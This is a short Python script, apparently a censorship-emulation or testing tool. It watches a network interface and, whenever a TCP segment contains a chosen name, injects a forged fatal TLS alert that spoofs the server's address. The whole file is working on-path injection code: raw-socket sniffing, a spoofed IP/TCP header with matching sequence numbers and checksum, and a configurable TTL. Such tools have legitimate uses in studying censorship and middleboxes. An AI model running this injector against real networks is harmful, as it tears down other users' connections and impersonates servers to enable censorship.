# SPDX-License-Identifier: BSD-3-Clause
"""An on-path device that ends TLS with an alert: sees copies of what passes, and for a segment that holds
the name writes a fatal alert in the server's name. The server's own answer comes after it.

usage: alerter.py IFACE NAME TTL ALERT     ALERT: a number of RFC 8446, section 6.2
"""
import socket
import struct
import sys

ETH_P_IP = 0x0800
PSH_ACK = 0x18


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def answer(packet, ttl, payload):
    """the segment that the receiver of `packet` would send next, saying `payload`"""
    head = (packet[0] & 15) * 4
    size = struct.unpack_from("!H", packet, 2)[0]
    source, target = packet[12:16], packet[16:20]
    sport, dport, seq, ack, flags = struct.unpack_from("!HHIIH", packet, head)
    said = size - head - (flags >> 12) * 4
    tcp = struct.pack("!HHIIHHHH", dport, sport, ack, (seq + said) & 0xffffffff, 5 << 12 | PSH_ACK,
                      1024, 0, 0) + payload
    pseudo = target + source + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, ttl, socket.IPPROTO_TCP, 0)
    return ip + target + source + tcp, socket.inet_ntoa(source)


def main():
    iface, name, ttl, alert = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3]), int(sys.argv[4])
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    ears.bind((iface, 0))
    mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    while True:
        packet, where = ears.recvfrom(65536)
        if where[2] == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_TCP or name not in packet:
            continue
        forged, client = answer(packet, ttl, b"\x15\x03\x03\x00\x02\x02" + bytes([alert]))
        mouth.sendto(forged, (client, 0))


if __name__ == "__main__":
    main()
